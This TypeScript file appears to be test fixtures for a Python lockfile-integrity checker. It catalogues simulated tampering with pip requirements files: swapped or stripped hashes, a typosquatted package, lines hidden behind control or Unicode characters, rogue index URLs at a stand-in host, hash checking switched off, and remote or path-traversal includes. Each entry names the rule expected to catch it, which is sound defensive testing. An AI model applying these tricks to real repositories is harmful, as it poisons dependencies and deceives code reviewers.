import type { Rule } from "../../rule.ts";
import type { Attack } from "../attack.ts";
import {
  editBlock,
  findBlocks,
  type LockBlock,
  requirement,
  toVersion,
  unseen,
} from "../lock-text.ts";
import { withLine } from "../scenes.ts";
import type { Stage } from "../stage.ts";

/** Nobody agreed to what differs. */
const UNAPPROVED = ["APPROVAL_MISSING", "APPROVAL_UNREGULATED", "APPROVAL_DENIED"] as const;

type Edit = (text: string, stage: Stage) => string;

/** Once everybody has agreed, somebody pushes one commit more to the branch. */
function pushed(name: string, what: string, stoppedBy: readonly Rule[], edit: Edit): Attack {
  return {
    name,
    area: "lock",
    what,
    from: ["approved", "unchanged"],
    stoppedBy,
    unless: (stage) =>
      findBlocks(stage.text(stage.target.path)).length === 0
        ? `${stage.target.path} has no requirement with a version and a SHA-256`
        : undefined,
    carryOut: async (stage) => {
      stage.write(stage.target.path, edit(stage.text(stage.target.path), stage));
      stage.commit();
    },
  };
}

/** The same, to the lines of a requirement that the honest change has left alone where there is one. */
function toOne(edit: (lines: string, block: LockBlock) => string): Edit {
  return (text) => {
    const block = findBlocks(text).at(-1);
    return block === undefined ? text : editBlock(text, block, (lines) => edit(lines, block));
  };
}

/** The same, by a line at the end. */
function appended(line: string): Edit {
  return (text) => withLine(text, line);
}

/** Whatever the lock has: it is the popular name that somebody means. */
const SQUAT = requirement("requets", "2.31.0");
const EVIL = requirement("drill-evil", "6.6.6");
const HASH = /--hash=sha256:[0-9a-f]{64}/;

/** What is done to the bytes of a lock. */
export const LOCK_ATTACKS: readonly Attack[] = [
  pushed(
    "swapped-digest",
    "gives a package other bytes under the same version",
    UNAPPROVED,
    toOne((lines) => lines.replace(HASH, `--hash=sha256:${unseen("swapped")}`)),
  ),
  pushed(
    "added-digest",
    "lets a second file pass as a package that is locked",
    UNAPPROVED,
    toOne((lines) => lines.replace(HASH, (one) => `${one} --hash=sha256:${unseen("added")}`)),
  ),
  pushed(
    "removed-digest",
    "takes the hashes of a package away",
    ["LOCK_HASH_MISSING"],
    toOne((lines) => lines.replace(/(?:[ \t]|\\\r?\n)*--hash=\S+/g, "")),
  ),
  pushed(
    "weak-digest",
    "has MD5 in place of SHA-256",
    ["LOCK_HASH_ALGORITHM"],
    toOne((lines) => lines.replace(HASH, `--hash=md5:${unseen("weak").slice(0, 32)}`)),
  ),
  pushed(
    "typo-squatted-name",
    "brings a package whose name lacks a letter of a popular one",
    ["NAME_IMPERSONATES"],
    appended(SQUAT),
  ),
  pushed("added-package", "brings one package more", UNAPPROVED, appended(EVIL)),
  pushed(
    "removed-package",
    "takes a package out",
    [...UNAPPROVED, "LOCK_EMPTY"],
    toOne(() => ""),
  ),
  pushed("older-version", "goes back to a version that has a hole", UNAPPROVED, (text) => {
    const block = findBlocks(text).at(-1);
    return block === undefined ? text : toVersion(text, block, "0.0.0.1");
  }),
  pushed(
    "unpinned-version",
    "asks for any later version",
    ["LOCK_NOT_PINNED"],
    toOne((lines) => lines.replace("==", ">=")),
  ),
  pushed(
    "other-marker",
    "lets a package be installed under another condition",
    [...UNAPPROVED, "LOCK_MARKER"],
    toOne((lines, { version }) => lines.replace(version, `${version} ; python_version < "3.99"`)),
  ),
  pushed(
    "line-in-a-comment",
    "hides a line behind a carriage return within a comment",
    ["LOCK_HIDDEN_LINE"],
    appended(`# as before\r${EVIL}`),
  ),
  pushed(
    "line-behind-a-separator",
    "hides a line behind U+2028 within a comment",
    ["LOCK_HIDDEN_LINE", "LOCK_NOT_ASCII"],
    appended(`# as before\u2028${EVIL}`),
  ),
  pushed(
    "comment-that-swallows",
    "lets a comment end in a backslash, so that pip drops the next line",
    ["LOCK_COMMENT_SWALLOWS"],
    toOne((lines) => `${lines} # as before \\`),
  ),
  pushed(
    "bidirectional-text",
    "turns the order of what a reviewer sees around",
    ["LOCK_CONTROL_CHARACTER"],
    appended("# \u202e as before\n"),
  ),
  pushed(
    "invisible-letter",
    "writes a letter into a name that nobody sees",
    ["LOCK_NOT_ASCII", "LOCK_CONTROL_CHARACTER", "LOCK_REQUIREMENT_MALFORMED"],
    toOne((lines, { name }) => lines.replace(name, `${name.slice(0, 1)}\u200b${name.slice(1)}`)),
  ),
  pushed(
    "encoding-comment",
    "lets pip decode the file in another encoding, in which a comment has a second line",
    ["LOCK_CODING_COMMENT"],
    (text) => `# -*- coding: utf-7 -*-\n# as before +AAo-${EVIL}${text}`,
  ),
  pushed(
    "hashes-switched-off",
    "switches off that pip compares hashes",
    ["LOCK_OPTION_FORBIDDEN", "LOCK_OPTION_UNKNOWN"],
    (text) => `--no-require-hashes\n${text}`,
  ),
  pushed(
    "trailing-zero-byte",
    "hides a line behind a zero byte",
    ["LOCK_CONTROL_CHARACTER", "LOCK_HIDDEN_LINE"],
    appended(`\0${EVIL}`),
  ),
  pushed(
    "other-index",
    "has everything fetched from an index of their own",
    UNAPPROVED,
    (text) => `--index-url https://index.drill.example/simple/\n${text}`,
  ),
  pushed(
    "extra-index",
    "has a second index asked",
    UNAPPROVED,
    (text) => `--extra-index-url https://index.drill.example/simple/\n${text}`,
  ),
  pushed(
    "trusted-host",
    "has a host believed without a certificate",
    UNAPPROVED,
    (text) => `--trusted-host index.drill.example\n${text}`,
  ),
  pushed(
    "abbreviated-option",
    "abbreviates an option that pip alone completes",
    ["LOCK_OPTION_ABBREVIATED", "LOCK_OPTION_UNKNOWN"],
    (text) => `--extra-index https://index.drill.example/simple/\n${text}`,
  ),
  pushed("editable", "installs a folder", ["LOCK_EDITABLE"], appended("-e ./drill\n")),
  pushed(
    "repository-reference",
    "installs a branch of a repository",
    ["LOCK_DIRECT_REFERENCE"],
    appended("drill-evil @ git+https://host.example/drill/evil@main\n"),
  ),
  pushed(
    "archive-reference",
    "installs an archive from an address, without a hash",
    ["LOCK_DIRECT_REFERENCE", "LOCK_HASH_MISSING"],
    appended("drill-evil @ https://host.example/drill_evil-1.0-py3-none-any.whl\n"),
  ),
  pushed(
    "included-file",
    "includes a file that nobody locked",
    ["LOCK_NOT_PINNED", "LOCK_HASH_MISSING"],
    (text, stage) => {
      stage.write(`${folderOf(stage.target.path)}drill-more.txt`, "drill-evil>=1\n");
      return withLine(text, "-r drill-more.txt\n");
    },
  ),
  pushed(
    "included-lock",
    "includes a second file with a package that is locked",
    UNAPPROVED,
    (text, stage) => {
      stage.write(`${folderOf(stage.target.path)}drill-more.txt`, EVIL);
      return withLine(text, "-r drill-more.txt\n");
    },
  ),
  pushed(
    "remote-include",
    "includes a file from the network",
    ["LOCK_INCLUDE_REMOTE"],
    appended("-r https://host.example/more.txt\n"),
  ),
  pushed(
    "include-outside",
    "includes a file that is no part of the repository",
    ["LOCK_INCLUDE_OUTSIDE"],
    appended("-r ../../../../../../../../../../drill.txt\n"),
  ),
  pushed(
    "environment-variable",
    "lets a variable of the build say what is installed",
    ["LOCK_ENVIRONMENT"],
    appended("${DRILL_EVIL}\n"),
  ),
  pushed(
    "second-spelling",
    "locks a package again, in another spelling and version",
    ["LOCK_DUPLICATE", "LOCK_PIP_REFUSES"],
    (text) => {
      const [block] = findBlocks(text);
      const name = (block?.name ?? "drill").toUpperCase().replaceAll(/[-_]/g, ".");
      return withLine(text, requirement(name, "6.6.6"));
    },
  ),
  {
    name: "lock-is-a-link",
    area: "lock",
    what: "puts a link in place of the lock, to a file that nobody asks about",
    from: ["approved", "unchanged"],
    // What lies there is judged, and HEAD has a link.
    stoppedBy: [...UNAPPROVED, "GATE_HEAD_DIFFERS"],
    carryOut: async (stage) => {
      const { path } = stage.target;
      stage.write(`${folderOf(path)}drill-more`, withLine(stage.text(path), EVIL));
      stage.link(path, "drill-more");
      stage.commit();
    },
  },
  {
    name: "lock-leads-out",
    area: "lock",
    what: "puts a link in place of the lock that leads out of the repository",
    from: ["approved", "unchanged"],
    stoppedBy: ["PATH_OUTSIDE_ROOT"],
    formats: ["pip-requirements", "lockseal-tools"],
    carryOut: async (stage) => {
      stage.link(stage.target.path, "/etc/hostname");
      stage.commit();
    },
  },
  {
    name: "lock-removed",
    area: "lock",
    what: "takes the lock away, so that there is nothing to compare",
    from: ["unchanged"],
    stoppedBy: UNAPPROVED,
    formats: ["pip-requirements", "lockseal-tools"],
    carryOut: async (stage) => {
      stage.remove(stage.target.path);
      stage.commit();
    },
  },
];

function folderOf(path: string): string {
  return path.replace(/[^/]*$/, "");
}
